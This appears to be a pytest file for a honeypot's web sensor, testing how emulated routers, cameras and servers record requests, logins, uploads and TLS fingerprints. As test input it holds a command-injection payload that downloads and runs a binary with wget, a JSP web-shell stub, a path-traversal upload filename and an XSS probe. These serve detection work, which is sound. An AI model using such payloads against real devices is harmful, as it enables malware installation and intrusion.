"""The web door: pages, logins, uploads, injected commands, TLS."""

# ruff: noqa: E501 - requests and scripts stand as they are sent

from __future__ import annotations

import asyncio
import gzip
import re
from email.utils import format_datetime
from hashlib import sha256
from typing import Any

import pytest

from mead.sensors.web.products import PRODUCTS


def ask(b: Any, head: bytes, body: bytes = b"") -> bytes:
    length = b"Content-Length: %d\r\n" % len(body) if body else b""
    return b.send(head + b"\r\nHost: 192.0.2.1\r\nUser-Agent: test\r\n" + length + b"\r\n" + body)


def web(bench: Any, product: str | None = None, **options: Any) -> Any:
    b = bench("http", port=80, **options)
    if product:
        chosen = next(entry for entry in PRODUCTS if entry.name == product)
        b.persona.product = chosen
    b.open()
    return b


@pytest.mark.parametrize("product", [entry.name for entry in PRODUCTS])
async def test_each_product_answers_and_the_request_is_recorded(bench: Any, product: str) -> None:
    b = web(bench, product)
    answer = ask(b, b"GET / HTTP/1.1")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b.persona.product.software.server.split("/")[0].encode() in head
    length = re.search(rb"(?i)content-length: (\d+)", head)
    assert length is None or int(length[1]) == len(body)
    await b.finish()
    (event,) = b.events.of("request.received")
    assert (event.method, event.target, event.host, event.user_agent) == ("GET", "/", "192.0.2.1", "test")
    assert event.headers == [("Host", "192.0.2.1"), ("User-Agent", "test")]


async def test_unknown_pages_and_methods_are_refused_and_recorded(bench: Any) -> None:
    b = web(bench, "nginx-debian")
    assert b" 404 " in ask(b, b"GET /wp-login.php?a=<script> HTTP/1.1").split(b"\r\n")[0]
    assert b" 405 " in ask(b, b"PROPFIND / HTTP/1.1").split(b"\r\n")[0]
    head = ask(b, b"HEAD / HTTP/1.1")
    assert head.endswith(b"\r\n\r\n")
    await b.finish()
    assert [event.status for event in b.events.of("request.received")] == [404, 405, 200]


async def test_what_the_peer_sends_is_never_put_on_a_page_as_it_is(bench: Any) -> None:
    for product in PRODUCTS:
        b = web(bench, product.name)
        assert b"<script>" not in ask(b, b"GET /<script>alert(1)</script> HTTP/1.1")
        await b.finish()


async def test_an_injected_command_is_run_and_its_offer_followed(bench: Any, elf: Any) -> None:
    async def follow(offer: Any, publish: Any) -> Any:
        return elf if offer.url == "http://198.51.100.9/m" else None

    b = web(bench, "boa-router", follow=follow)
    ask(
        b,
        b"POST /boafrm/formLogin HTTP/1.1",
        b"host=;cd /tmp;wget http://198.51.100.9/m -O x;chmod 777 x;./x",
    )
    await b.finish()
    (exploit,) = b.events.of("exploit.seen")
    assert exploit.rule == "generic-command-injection"
    assert exploit.command.startswith("cd /tmp;wget")
    (offer,) = b.events.of("offer.seen")
    assert offer.url == "http://198.51.100.9/m"
    (captured,) = [event for event in b.events.of("sample.captured") if event.how == "fetch"]
    assert captured.sha256 == sha256(elf).hexdigest()


async def test_the_output_of_an_injected_command_is_shown(bench: Any) -> None:
    b = web(bench, "goahead-camera")
    assert b"mead-1234" in ask(b, b"GET /x.cgi?ip=1.1.1.1;echo%20mead-$((1000%2B234)) HTTP/1.1")
    await b.finish()


async def test_bodies_are_kept_with_their_request(bench: Any, elf: Any) -> None:
    b = web(bench, "nginx-debian")
    ask(b, b"POST /upload.php HTTP/1.1\r\nContent-Type: application/octet-stream", elf)
    ask(b, b"PUT /shell.jsp HTTP/1.1", b"<% Runtime.getRuntime() %>")
    boundary = (
        b'--x\r\nContent-Disposition: form-data; name=f; filename="..\\..\\evil.php"\r\n\r\n'
        + elf
        + b"\r\n--x--\r\n"
    )
    ask(b, b"POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x", boundary)
    await b.finish()
    requests = b.events.of("request.received")
    assert {event.sha256 for event in requests} == {
        sha256(body).hexdigest() for body in (elf, b"<% Runtime.getRuntime() %>", boundary)
    }
    captured = {(event.how, event.name): event.sha256 for event in b.events.of("sample.captured")}
    assert captured[("post", "evil.php")] == sha256(elf).hexdigest()
    assert captured[("put", "shell.jsp")] == sha256(b"<% Runtime.getRuntime() %>").hexdigest()
    assert captured[("post", "upload.php")] == sha256(elf).hexdigest()
    assert len(b.events.of("file.uploaded")) == 3


async def test_what_no_form_can_be_is_a_sample_whatever_its_type_says(bench: Any) -> None:
    b = web(bench, "nginx-debian")
    form = b"POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded"
    ask(b, form, b"marker\0\x01\x02")
    ask(b, form, b"user=a&password=b")
    ask(b, b"FROB /y HTTP/1.1", b"\0\x01\x02")
    await b.finish()
    assert [event.name for event in b.events.of("sample.captured")] == ["x", "y"]


async def test_basic_and_form_logins_are_recorded(bench: Any) -> None:
    b = web(bench, "mini-httpd-router")
    assert b"WWW-Authenticate: Basic realm=" in ask(b, b"GET / HTTP/1.1")
    assert b" 200 " in ask(b, b"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=").split(b"\r\n")[0]
    await b.finish()
    (login,) = b.events.of("login.attempt")
    assert (login.method, login.username, login.password, login.success) == ("basic", "admin", "admin", True)
    form = web(bench, "goahead-camera")
    ask(
        form,
        b"POST /login.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded",
        b"username=admin&password=s%26cret",
    )
    await form.finish()
    (login,) = form.events.of("login.attempt")
    assert (login.method, login.password) == ("form", "s&cret")


async def test_a_proxy_request_is_abuse_and_goes_nowhere(bench: Any) -> None:
    b = web(bench, "nginx-debian")
    ask(b, b"CONNECT mail.example:25 HTTP/1.1")
    await b.finish()
    (abuse,) = b.events.of("abuse.seen")
    assert (abuse.abuse, abuse.victim) == ("proxy", "mail.example:25")


async def test_bytes_that_are_no_http_are_kept(bench: Any) -> None:
    b = web(bench)
    answer = b.send(b"\x00\x01binary garbage\r\n\r\n")
    assert b" 400 " in answer.split(b"\r\n")[0]
    b.send(b"more")
    await b.finish()
    assert b.events.of("peer.error")


async def test_a_refusal_bears_the_time_at_which_it_is_made(bench: Any) -> None:
    b = web(bench, "apache-debian")
    b.clock.advance(3600)
    refusal = b.send(b"\x03\x00\x00\x13\x0e\xe0\r\n\r\n")
    assert refusal.startswith(b"HTTP/1.1 400 ")
    assert b"Date: " + format_datetime(b.clock.now(), usegmt=True).encode() in refusal


async def test_a_client_hello_on_a_plain_port_is_fingerprinted(bench: Any) -> None:
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="shop.example")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    b = web(bench)
    b.send(outgoing.read())
    await b.finish()
    kinds = {event.fingerprint_kind: event for event in b.events.of("client.seen")}
    assert set(kinds) == {"ja3", "ja4"}
    assert kinds["ja4"].server_name == "shop.example"


@pytest.mark.tool("curl")
async def test_curl_gets_pages_posts_and_uploads(sensor: Any, client: Any, elf: Any, tmp_path: Any) -> None:
    local = tmp_path / "body.bin"
    local.write_bytes(elf)
    async with sensor("http", "https", directory=tmp_path / "keys") as running:
        plain = f"http://127.0.0.1:{running.ports['http']}"
        secure = f"https://127.0.0.1:{running.ports['https']}"
        code, out, _ = await client("curl", "-s", "-u", "admin:admin", plain + "/")
        assert code == 0
        assert b"<html" in out.lower()
        code, out, err = await client(
            "curl", "-sk", "--tlsv1.2", "--ciphers", "DEFAULT@SECLEVEL=0", "-u", "admin:admin", secure + "/"
        )
        assert code == 0, err
        assert b"<html" in out.lower()
        await client("curl", "-s", "-T", str(local), plain + "/put.bin")
        await client("curl", "-s", "-F", f"file=@{local}", plain + "/up")
        await client(
            "curl",
            "-s",
            "--data-binary",
            f"@{local}",
            "-H",
            "Content-Type: application/octet-stream",
            plain + "/raw",
        )
        await running.events.until("session.close", 5)
        captured = running.events.of("sample.captured")
        assert [event.sha256 for event in captured] == [sha256(elf).hexdigest()] * 3
        kinds = {event.fingerprint_kind for event in running.events.of("client.seen")}
        assert kinds == {"ja3", "ja4"}


@pytest.mark.tool("nc")
async def test_nc_may_close_its_side_first(sensor: Any, client: Any) -> None:
    async with sensor("http") as running:
        _, out, _ = await client(
            "nc", "-N", "127.0.0.1", str(running.ports["http"]), stdin=b"GET / HTTP/1.0\r\n\r\n"
        )
        assert out.startswith(b"HTTP/1.")


async def test_hostile_requests_are_bounded(bench: Any) -> None:
    for data in (b"GET /" + b"A" * 5_000_000, b"A" * 2_000_000, b"POST / HTTP/1.1\r\nContent-Length: 999999999999\r\n\r\n" + b"x" * 100_000,
                 gzip.compress(bytes(100_000)), b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 100_000):  # fmt: skip
        b = web(bench)
        for start in range(0, len(data), 65536):
            b.send(data[start : start + 65536])
        b.send(b"")
        await b.finish()
        assert b.events[-1].kind == "session.close"


@pytest.mark.tool("nmap")
async def test_nmap_names_products_and_no_honeypot(sensor: Any, client: Any, tmp_path: Any) -> None:
    async with sensor("telnet", "ssh", "http", "https", directory=tmp_path) as running:
        ports = ",".join(str(port) for port in running.ports.values())
        code, out, err = await client(
            "nmap", "-n", "-Pn", "-sV", "--version-all", "-p", ports, "127.0.0.1", seconds=110
        )
        assert code == 0, err
        text = out.decode().lower()
        assert not any(
            word in text
            for word in ("honeypot", "cowrie", "dionaea", "kippo", "nepenthes", "honeyd", "twisted")
        )
        assert "openssh" in text
        for port in running.ports.values():
            assert f"{port}/tcp open" in text


async def test_concurrent_requests_on_one_connection_are_answered_in_order(sensor: Any) -> None:
    async with sensor("http") as running:
        reader, writer = await asyncio.open_connection("127.0.0.1", running.ports["http"])
        writer.write(
            b"GET /one HTTP/1.1\r\nHost: x\r\n\r\nGET /two HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        async with asyncio.timeout(5):
            data = await reader.read()
        writer.close()
        assert data.count(b"HTTP/1.1 ") == 2
        await running.events.until("session.close")
        assert [event.target for event in running.events.of("request.received")] == ["/one", "/two"]


async def test_nginx_says_no_before_the_body_has_come_and_the_body_is_kept_all_the_same(sensor: Any) -> None:
    def prepare(persona: Any) -> None:
        persona.product = next(entry for entry in PRODUCTS if entry.name == "nginx-debian")

    async with sensor("http", prepare=prepare) as running:
        reader, writer = await asyncio.open_connection("127.0.0.1", running.ports["http"])
        writer.write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 8\r\n\r\n#!/bi")
        async with asyncio.timeout(5):
            head = await reader.readuntil(b"\r\n\r\n")
            assert head.startswith(b"HTTP/1.1 405 Not Allowed")
            await reader.readuntil(b"</html>\r\n")
            writer.write(b"n/sGET /two HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            assert (await reader.read()).startswith(b"HTTP/1.1 404")
        writer.close()
        await running.events.until("session.close")
        assert {event.status for event in running.events.of("request.received")} == {405, 404}
        assert running.body(running.events.of("sample.captured")[0]) == b"#!/bin/s"
